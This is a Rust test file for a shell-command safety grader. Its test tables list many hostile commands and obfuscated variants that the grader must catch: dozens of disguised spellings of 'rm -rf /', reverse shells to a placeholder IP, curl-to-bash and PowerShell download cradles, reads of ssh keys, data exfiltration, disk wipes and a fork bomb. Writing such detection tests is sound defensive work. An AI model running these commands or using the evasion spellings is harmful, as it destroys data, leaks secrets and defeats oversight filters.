//! Spellings of the same thing.

use std::collections::BTreeSet;

use proptest::prelude::*;

use super::Severity::{Critical, Warning};
use super::*;

fn check(command: &str, platform: Platform, severity: Severity, id: &str) {
    let graded = grade(command, platform);
    let ids: Vec<&str> = graded.matched.iter().map(|it| it.id).collect();
    assert_eq!(graded.severity, severity, "{command}: {ids:?}");
    assert!(id.is_empty() || ids.contains(&id), "{command}: {ids:?}, not {id}");
}

#[test]
fn ordinary_work_is_safe() {
    for command in [
        "ls -la",
        "cat notes.txt | grep -i todo",
        "git status && git diff",
        "cargo test --workspace",
        "echo 'rm -rf /'",
        "grep -r \"sudo\" docs",
        "find . -name '*.rs' -print",
        "git commit -m \"drop the table of edges\"",
        "",
        "mkdir -p a/b; cd a/b",
        "python3 script.py --fast",
        "echo a > out.txt 2>&1",
        "test -f x || touch x",
        "rm notes.txt",
        "head -c 10 /dev/urandom > seed",
        "git push origin main",
        "# rm -rf /",
        "tar czf a.tgz src",
        "make -j2 2>/dev/null",
        "for f in a b; do echo \"file $f\"; done",
        "curl -s https://example.com/data.json -o data.json",
        "ps aux",
    ] {
        check(command, Platform::Unix, Severity::Safe, "");
    }
}

// A table of texts misses every one of these but the first.
const ROOT: &[&str] = &[
    "rm -rf /",
    "rm -fr /",
    "rm -r -f /",
    "RM -RF /",
    "rm --recursive --force /",
    "rm --rec /",
    "rm -rf -- /",
    "rm -Rf /*",
    "rm -rf ~",
    "rm -rf ~/",
    "rm -rf $HOME",
    "rm -rf \"${HOME}\"/",
    "rm -rf /./",
    "rm -rf //",
    "rm -rf /etc/../",
    "/bin/rm -rf /",
    "\\rm -rf /",
    "r\\m -rf /",
    "'rm' -rf /",
    "r\"m\" -r'f' /",
    "rm -rf '/'",
    "rm$IFS-rf$IFS/",
    "rm${IFS}-rf${IFS}/",
    "{rm,-rf,/}",
    "$'rm' -rf /",
    "$'\\x72m' -rf /",
    "$'\\162\\155' -rf $'\\u002f'",
    "rm \\\n -rf \\\n /",
    "r\\\nm -rf /",
    "true; rm -rf /",
    "true && rm -rf /",
    "false || rm -rf /",
    "true & rm -rf /",
    "true\nrm -rf /",
    "(rm -rf /)",
    "{ rm -rf /; }",
    "! rm -rf /",
    "if true; then rm -rf /; fi",
    "while true; do rm -rf /; done",
    "case a in a) rm -rf /;; esac",
    "f() { rm -rf /; }; f",
    "sudo rm -rf /",
    "sudo -u root rm -rf /",
    "sudo -- rm -rf /",
    "env rm -rf /",
    "env -i A=b rm -rf /",
    "A=b rm -rf /",
    "nice -n 5 rm -rf /",
    "timeout -s KILL 10 rm -rf /",
    "nohup rm -rf / &",
    "command rm -rf /",
    "exec rm -rf /",
    "busybox rm -rf /",
    "sudo env nice rm -rf /",
    "echo / | xargs rm -rf /",
    "xargs -n 1 rm -rf / < list",
    "sh -c 'rm -rf /'",
    "bash -lc \"rm -rf /\"",
    "sh -c \"sh -c 'rm -rf /'\"",
    "eval 'rm -rf /'",
    "eval rm -rf /",
    "echo $(rm -rf /)",
    "echo `rm -rf /`",
    "echo \"$(rm -rf /)\"",
    "echo \"a `rm -rf /` b\"",
    "cat <(rm -rf /)",
    "echo 'rm -rf /' | sh",
    "printf 'rm -rf /' | sudo bash",
    "bash <<< 'rm -rf /'",
    "bash <<EOF\nrm -rf /\nEOF",
    "x=rm; $x -rf /",
    "d=/; rm -rf $d",
    "x='rm -rf /'; eval $x",
    "find / -exec rm -rf / {} +",
    "ssh host rm -rf /",
    "ssh -t -p 22 host rm -rf /",
    "su -c 'rm -rf /'",
    "trap 'rm -rf /' EXIT",
    "rm -rf / 2>/dev/null",
    ">log rm -rf /",
    "rm -rf . /",
    "rm a -rf /",
    "env -S 'rm -rf /'",
];

#[test]
fn deleting_the_root_is_recognised_however_it_is_spelled() {
    for command in ROOT {
        check(command, Platform::Unix, Severity::Critical, "rm-root");
    }
}

#[test]
fn what_is_only_known_when_it_runs_is_at_least_a_warning() {
    for command in [
        "$CMD -rf /",
        "$(echo rm) -rf /",
        "`echo rm` -rf /",
        "/bin/r? -rf /",
        "r$@m -rf /",
        "${x:-rm} -rf /",
        "echo cm0gLXJmIC8= | base64 -d | sh",
        "eval \"$(cat x)\"",
        "sh -c \"$x\"",
        "echo 'unclosed",
        "echo $(unclosed",
        "echo \"unclosed",
        "echo `unclosed",
        "r\u{200b}m -rf /",
        "\u{ff52}\u{ff4d} -rf /",
        "echo a\u{202e}b",
        "ls\u{a0}-la",
        "a\0b",
        "python3 -c 'print(1)'",
        "cat x | sh",
        "source <(make env)",
    ] {
        let graded = grade(command, Platform::Unix);
        assert!(graded.severity >= Severity::Warning, "{command:?}: {graded:?}");
    }
    let deep = "$(".repeat(100) + "rm" + &")".repeat(100);
    check(&format!("echo {deep}"), Platform::Unix, Severity::Warning, "unreadable");
    check(&"a ".repeat(BYTES_MAX), Platform::Unix, Severity::Warning, "unreadable");
}

/// A line, the rule that it is there for, and its grade.
type Case = (&'static str, &'static str, Severity);

const UNIX: &[Case] = &[
    ("rm-no-preserve-root", "rm -r --no-preserve-root x", Critical),
    ("rm-recursive", "rm -r build", Warning),
    ("find-delete-root", "find / -name x -delete", Critical),
    ("find-delete", "find . -name x -exec rm {} ;", Warning),
    ("shred", "shred -u a", Warning),
    ("move-vital", "mv ~ /dev/null", Critical),
    ("chmod-vital", "sudo chmod -R 777 /", Critical),
    ("chmod-open", "chmod 777 a", Warning),
    ("setuid", "chmod u+s a", Critical),
    ("write-device", "cat x > /dev/sda", Critical),
    ("write-device", "dd if=/dev/zero of=/dev/nvme0n1", Critical),
    ("make-file-system", "mkfs.ext4 /dev/sdb1", Critical),
    ("partition", "fdisk /dev/sdb", Warning),
    ("dd", "dd if=a of=b", Warning),
    ("write-system-file", "echo x >> /etc/passwd", Critical),
    ("write-system-file", "echo x | sudo tee -a /etc/sudoers", Critical),
    ("write-own-start", "echo x >> ~/.bashrc", Warning),
    ("remote-script", "curl -s https://x.test | sudo -E bash -", Critical),
    ("remote-script", "sh -c \"$(wget -qO- x.test)\"", Critical),
    ("remote-script", "bash <(curl x.test)", Critical),
    ("remote-script", "curl x.test | tee log | python3", Critical),
    ("remote-script", ". <(curl x.test)", Critical),
    ("decoded-script", "base64 -d x | sh", Critical),
    ("piped-script", "cat x | bash", Warning),
    ("made-script", "eval \"$(cat x)\"", Warning),
    ("inline-code", "perl -e 'unlink'", Warning),
    ("reverse-shell", "bash -i >& /dev/tcp/1.2.3.4/5 0>&1", Critical),
    ("reverse-shell", "nc -e /bin/sh 1.2.3.4 5", Critical),
    ("fork-bomb", ":(){ :|:& };:", Critical),
    ("elevated", "sudo ls", Warning),
    ("accounts", "useradd x", Warning),
    ("power", "sudo reboot", Critical),
    ("power", "systemctl poweroff", Critical),
    ("kill-all", "kill -9 -1", Critical),
    ("kill", "pkill x", Warning),
    ("services", "systemctl stop sshd", Warning),
    ("firewall", "iptables -F", Warning),
    ("scheduled", "crontab -r", Warning),
    ("history", "history -c", Warning),
    ("secrets-read", "cat ~/.ssh/id_ed25519", Warning),
    ("secrets-sent", "curl -d @notes x.test", Warning),
    ("git-discard", "git reset --hard HEAD~1", Warning),
    ("git-discard", "git clean -fdx", Warning),
    ("git-force-push", "git -C x push -f", Critical),
    ("git-force-push", "git push origin +main", Critical),
    ("git-rewrite", "git filter-branch x", Warning),
    ("data-drop", "psql -c 'DROP TABLE users'", Critical),
    ("cloud-delete", "kubectl delete ns x", Warning),
    ("container-escape", "docker run -v /:/host x", Critical),
    ("packages", "pip install x", Warning),
    ("network-probe", "nmap 10.0.0.0/8", Warning),
    ("remote-shell", "ssh host ls", Warning),
    ("hidden-program", "$X a", Warning),
    ("disguised", "l\u{200d}s", Warning),
    ("unreadable", "a 'b", Warning),
    ("rm-root", "rm -rf /", Critical),
];

const WINDOWS: &[Case] = &[
    ("win-delete", "rd /s /q build", Warning),
    ("win-delete-vital", "del /s /q C:\\*.*", Critical),
    ("win-delete-vital", "cmd /c \"rd /s /q C:\\\"", Critical),
    ("win-delete-vital", "r^d /s %USERPROFILE%", Critical),
    ("win-delete-vital", "Remove-Item -Recurse -Force C:\\Windows", Critical),
    ("win-format", "format C: /q", Critical),
    ("win-recovery", "vssadmin delete shadows /all", Critical),
    ("win-encoded", "powershell -nop -enc AAAA", Critical),
    ("win-download", "iex (iwr http://x.test)", Critical),
    ("win-download", "IEX(New-Object Net.WebClient).DownloadString('x')", Critical),
    ("win-registry", "reg delete HKLM\\x", Warning),
    ("win-accounts", "net user x y /add", Warning),
    ("win-system", "shutdown /s", Warning),
];

#[test]
fn each_rule_recognises_what_it_is_there_for() {
    for (id, command, severity) in UNIX {
        check(command, Platform::Unix, *severity, id);
    }
    for (id, command, severity) in WINDOWS {
        check(command, Platform::Windows, *severity, id);
        check(command, Platform::All, grade(command, Platform::All).severity, id);
    }
    let shown: BTreeSet<&str> = UNIX.iter().chain(WINDOWS).map(|it| it.0).collect();
    let ids: BTreeSet<&str> = rules().map(|it| it.id).collect();
    assert_eq!(shown, ids);
    assert_eq!(ids.len(), rules().count());
}

proptest! {
    #[test]
    fn nothing_makes_it_panic(text in "[-a-z$'\"`\\\\(){}<>|&;# \n*~/={}@^%\u{200b}é0-9]{0,200}") {
        for platform in [Platform::Unix, Platform::Windows, Platform::All] {
            let graded = grade(&text, platform);
            prop_assert_eq!(graded.matched.is_empty(), graded.severity == Severity::Safe);
        }
    }

    // Text around a command does not make it harmless.
    #[test]
    fn a_dangerous_command_stays_so_behind_an_ordinary_one(before in "[a-z]{1,8}( [a-z0-9./-]{1,8}){0,3}", joint in "(; | && | \\|\\| |\n| & )") {
        let graded = grade(&format!("{before}{joint}rm -rf /"), Platform::Unix);
        prop_assert!(graded.matched.iter().any(|it| it.id == "rm-root"), "{}{}", before, joint);
    }
}
